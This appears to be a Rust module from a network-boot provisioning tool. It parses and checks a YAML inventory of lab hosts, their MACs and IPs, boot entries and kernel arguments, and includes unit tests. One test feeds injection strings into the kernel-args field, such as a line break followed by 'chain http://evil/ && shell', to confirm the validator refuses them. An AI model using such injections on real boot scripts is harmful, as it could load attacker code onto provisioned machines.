//! A lab's hosts inventory as the user wrote it: which machine (by MAC
//! and/or IP) boots which entry of a bundle, with which extra kernel
//! arguments. Parsed and checked here, every problem at its line and column;
//! `crate::lab::hosts` serves what it says.
//!
//! ```yaml
//! bundle: out/provision-agent/0.1.0   # relative to this file
//! default: local                      # for hosts not listed
//! hosts:
//!   - name: rack1-a
//!     mac: 52:54:00:00:00:11
//!     ip: 10.0.2.15
//!     entry: local
//!     args: rootsmith.agent.image=${server}images/disk.img.zst
//! ```

use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};

use serde::Deserialize;

pub use crate::bundle::names::entry_id;
use crate::diagnostic::spans::{Position, SpanIndex};
use crate::diagnostic::{Diagnostic, Diagnostics};

/// What a host boots.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Entry {
    /// Its own disk: iPXE `sanboot` of the first drive, PXELINUX `LOCALBOOT 0`, GRUB `exit`.
    Local,
    /// The bundle's whole menu.
    Menu,
    /// One kernel of the bundle, the rootfs appended (`KERNEL-appended`) or fetched (`KERNEL-http`).
    Kernel { kernel: String, fetched: bool },
}

impl Entry {
    pub fn parse(text: &str) -> Option<Entry> {
        match text {
            "local" => Some(Entry::Local),
            "menu" => Some(Entry::Menu),
            _ => {
                if let Some(kernel) = text.strip_suffix("-http") {
                    Some(Entry::Kernel { kernel: kernel.into(), fetched: true })
                } else {
                    text.strip_suffix("-appended").map(|kernel| Entry::Kernel { kernel: kernel.into(), fetched: false })
                }
            }
        }
        .filter(|entry| !matches!(entry, Entry::Kernel { kernel, .. } if kernel.is_empty()))
    }

    pub fn name(&self) -> String {
        match self {
            Entry::Local => "local".into(),
            Entry::Menu => "menu".into(),
            Entry::Kernel { kernel, fetched } => entry_id(kernel, *fetched),
        }
    }

    /// Whether the bundle has what this entry boots.
    pub fn check(&self, bundle: &BundleKernels) -> Result<(), NoSuchKernel> {
        match self {
            Entry::Kernel { kernel, .. } if !bundle.kernels.iter().any(|name| name == kernel) => Err(NoSuchKernel {
                bundle: format!("{} {}", bundle.name, bundle.version),
                kernel: kernel.clone(),
                kernels: bundle.kernels.join(", "),
            }),
            _ => Ok(()),
        }
    }
}

/// An entry names a kernel the bundle does not have.
#[derive(Debug, Clone, thiserror::Error)]
#[error("the bundle {bundle} has no kernel `{kernel}` (it has: {kernels})")]
pub struct NoSuchKernel {
    pub bundle: String,
    pub kernel: String,
    pub kernels: String,
}

/// What an inventory is checked against: a bundle's name, version and kernels.
#[derive(Debug, Clone)]
pub struct BundleKernels {
    pub name: String,
    pub version: String,
    pub kernels: Vec<String>,
}

/// The entries of a bundle, for messages.
pub fn entry_choices(bundle: &BundleKernels) -> String {
    let mut choices = vec!["local".to_string(), "menu".to_string()];
    for kernel in &bundle.kernels {
        choices.push(entry_id(kernel, false));
        choices.push(entry_id(kernel, true));
    }
    choices.join(", ")
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Host {
    pub name: String,
    pub mac: Option<[u8; 6]>,
    pub ip: Option<Ipv4Addr>,
    pub entry: Entry,
    /// Extra kernel arguments; `${server}` becomes the server's base URL.
    pub args: String,
}

impl Host {
    /// `52-54-00-00-00-11`: iPXE's `${mac:hexhyp}`, and PXELINUX's name after `01-`.
    pub fn mac_hyphens(&self) -> Option<String> {
        self.mac.map(|mac| mac.iter().map(|byte| format!("{byte:02x}")).collect::<Vec<_>>().join("-"))
    }

    /// `0A00020F`: PXELINUX's and GRUB's name for an IPv4 address.
    pub fn ip_hex(&self) -> Option<String> {
        self.ip.map(|ip| ip.octets().iter().map(|byte| format!("{byte:02X}")).collect())
    }

    /// Whether `key` (a name, a MAC in any usual spelling, or an IP) is this host.
    pub fn is(&self, key: &str) -> bool {
        key == self.name
            || (parse_mac(key).is_some() && parse_mac(key) == self.mac)
            || (key.parse::<Ipv4Addr>().ok().is_some() && key.parse().ok() == self.ip)
    }
}

/// `52:54:00:00:00:11` or with `-`, any case.
pub fn parse_mac(text: &str) -> Option<[u8; 6]> {
    let parts: Vec<&str> = text.split([':', '-']).collect();
    if parts.len() != 6 {
        return None;
    }
    let mut mac = [0u8; 6];
    for (byte, part) in mac.iter_mut().zip(parts) {
        if part.len() != 2 {
            return None;
        }
        *byte = u8::from_str_radix(part, 16).ok()?;
    }
    Some(mac)
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RawInventory {
    pub bundle: Option<PathBuf>,
    default: Option<String>,
    #[serde(default)]
    hosts: Vec<RawHost>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RawHost {
    name: String,
    mac: Option<String>,
    ip: Option<String>,
    entry: Option<String>,
    #[serde(default)]
    args: String,
}

/// Check a recipe's inventory against the bundle the recipe will build (its
/// name, version and kernels). Such an inventory names no `bundle:`: it is
/// copied into the bundle it describes.
pub fn check_for_recipe(file: &Path, source: &str, bundle: &BundleKernels) -> Result<(), Diagnostics> {
    let mut parsed = parse(file, source)?;
    if parsed.raw.bundle.is_some() {
        let diagnostic =
            Diagnostic::new(file, source, parsed.spans.key("bundle"), "a recipe's inventory names no bundle")
                .with_hint("it goes into the bundle the recipe builds; remove `bundle:`");
        parsed.problems.push(diagnostic);
    }
    check(file, source, &parsed, bundle).map(|_| ())
}

/// An inventory parsed: its raw form, where everything is, and the unknown
/// keys found on the way (reported with the rest by [`check`]).
pub struct Parsed {
    pub raw: RawInventory,
    pub spans: SpanIndex,
    pub problems: Vec<Diagnostic>,
}

pub fn parse(file: &Path, source: &str) -> Result<Parsed, Diagnostics> {
    let spans = SpanIndex::build(source);
    let hint = "an inventory has `bundle`, `default` and `hosts` (name, mac, ip, entry, args); docs/fleet.md";
    let (raw, problems) = crate::diagnostic::parse_all::<RawInventory>(file, source, &spans, &|error| {
        crate::diagnostic::yaml_diagnostic(file, source, error, hint, crate::diagnostic::keys_of::<RawInventory>())
    })?;
    Ok(Parsed { raw, spans, problems })
}

/// Every problem of a parsed inventory at once, or its default entry and hosts.
pub fn check(
    file: &Path,
    source: &str,
    parsed: &Parsed,
    bundle: &BundleKernels,
) -> Result<(Entry, Vec<Host>), Diagnostics> {
    let (raw, spans) = (&parsed.raw, &parsed.spans);
    let problem = |position: Position, message: String, hint: &str| {
        Diagnostic::new(file, source, position, message).with_hint(hint)
    };
    let mut problems = parsed.problems.clone();
    let entry_at = |path: &str, text: Option<&String>, problems: &mut Vec<Diagnostic>| -> Entry {
        let Some(text) = text else { return Entry::Local };
        match Entry::parse(text)
            .ok_or_else(|| format!("`{text}` is not an entry"))
            .and_then(|entry| entry.check(bundle).map(|()| entry).map_err(|error| error.to_string()))
        {
            Ok(entry) => entry,
            Err(message) => {
                problems.push(problem(
                    spans.value(path),
                    message,
                    &format!("an entry is one of: {}", entry_choices(bundle)),
                ));
                Entry::Local
            }
        }
    };
    let default = entry_at("default", raw.default.as_ref(), &mut problems);
    let mut hosts: Vec<Host> = Vec::new();
    // Where each name, MAC and IP was first seen, to name both places of a duplicate.
    let mut seen: BTreeMap<String, (usize, String)> = BTreeMap::new();
    for (index, raw_host) in raw.hosts.iter().enumerate() {
        let path = format!("hosts[{index}]");
        let entry = match &raw_host.entry {
            Some(_) => entry_at(&format!("{path}.entry"), raw_host.entry.as_ref(), &mut problems),
            None => default.clone(),
        };
        if !crate::names::valid_name(&raw_host.name) {
            problems.push(problem(
                spans.value(&format!("{path}.name")),
                format!("invalid host name `{}`", raw_host.name),
                "use lower-case letters, digits, `.`, `_` and `-`",
            ));
        }
        let mac = raw_host.mac.as_ref().and_then(|text| {
            let mac = parse_mac(text);
            if mac.is_none() {
                problems.push(problem(
                    spans.value(&format!("{path}.mac")),
                    format!("`{text}` is not a MAC address"),
                    "write six hex bytes: 52:54:00:12:34:56",
                ));
            }
            mac
        });
        let ip = raw_host.ip.as_ref().and_then(|text| {
            let ip = text.parse::<Ipv4Addr>().ok();
            if ip.is_none() {
                problems.push(problem(
                    spans.value(&format!("{path}.ip")),
                    format!("`{text}` is not an IPv4 address"),
                    "write a dotted address: 10.0.2.15",
                ));
            }
            ip
        });
        if raw_host.mac.is_none() && raw_host.ip.is_none() {
            problems.push(problem(
                spans.key(&path),
                format!("host `{}` has neither a MAC nor an IP", raw_host.name),
                "a host is found by `mac:`, `ip:` or both",
            ));
        }
        // `${server}` is the one expansion rootsmith makes; the rest goes
        // into the host's boot script as it is.
        if let Err(why) = rootsmith_init::cmdline::check_script_safe(&raw_host.args.replace("${server}", "")) {
            problems.push(problem(
                spans.value(&format!("{path}.args")),
                format!("host `{}`: args: {why}", raw_host.name),
                "args are kernel command line words of printable ASCII; `${server}` is the only expansion",
            ));
        }
        let host = Host { name: raw_host.name.clone(), mac, ip, entry, args: raw_host.args.trim().to_string() };
        let keys = [
            ("name", Some(format!("name {}", host.name))),
            ("mac", host.mac_hyphens().map(|mac| format!("MAC {}", mac.replace('-', ":")))),
            ("ip", host.ip.map(|ip| format!("IP {ip}"))),
        ];
        for (field, key) in keys {
            let Some(key) = key else { continue };
            let position = spans.value(&format!("{path}.{field}"));
            if let Some((line, other)) = seen.get(&key) {
                problems.push(problem(
                    position,
                    format!("duplicate {key}: host `{other}` (line {line}) has it too"),
                    "each host's name, MAC and IP appear once",
                ));
            } else {
                seen.insert(key, (position.line, host.name.clone()));
            }
        }
        hosts.push(host);
    }
    if !problems.is_empty() {
        return Err(Diagnostics(problems));
    }
    Ok((default, hosts))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_unknown_key_does_not_hide_a_duplicate_mac() {
        let source = "hosts:\n  - name: a\n    mac: 52:54:00:00:00:11\n    colour: blue\n  - name: b\n    mac: 52:54:00:00:00:11\n";
        let bundle = BundleKernels { name: "lab".into(), version: "1.0.0".into(), kernels: vec!["debian".into()] };
        let Err(Diagnostics(problems)) = check_for_recipe(Path::new("hosts.yaml"), source, &bundle) else {
            panic!("the inventory has two problems")
        };
        let found: Vec<(usize, usize, &str)> =
            problems.iter().map(|p| (p.position.line, p.position.column, p.message.as_str())).collect();
        assert!(found.iter().any(|(line, column, message)| (*line, *column) == (4, 5) && message.contains("unknown field `colour`")), "{found:?}");
        assert!(found.iter().any(|(line, _, message)| *line == 6 && message.contains("duplicate MAC")), "{found:?}");
    }

    #[test]
    fn host_args_that_a_boot_script_cannot_carry_are_refused_where_written() {
        let bundle = BundleKernels { name: "lab".into(), version: "1.0.0".into(), kernels: vec!["debian".into()] };
        let ok = "hosts:\n  - name: a\n    mac: 52:54:00:00:00:11\n    args: rootsmith.agent.image=${server}images/disk.img.zst quiet\n";
        check_for_recipe(Path::new("hosts.yaml"), ok, &bundle).unwrap();
        for (args, why) in [
            ("\"quiet\\nchain http://evil/ && shell\"", "line break"),
            ("\"quiet || shell\"", "boot scripts give a meaning"),
            ("\"x=${next-server}\"", "boot scripts give a meaning"),
        ] {
            let source = format!("hosts:\n  - name: a\n    mac: 52:54:00:00:00:11\n    args: {args}\n");
            let Err(Diagnostics(problems)) = check_for_recipe(Path::new("hosts.yaml"), &source, &bundle) else {
                panic!("{args} passed")
            };
            assert!(
                problems.iter().any(|p| (p.position.line, p.position.column) == (4, 11) && p.message.contains(why)),
                "{args}: {problems:?}"
            );
        }
    }
}
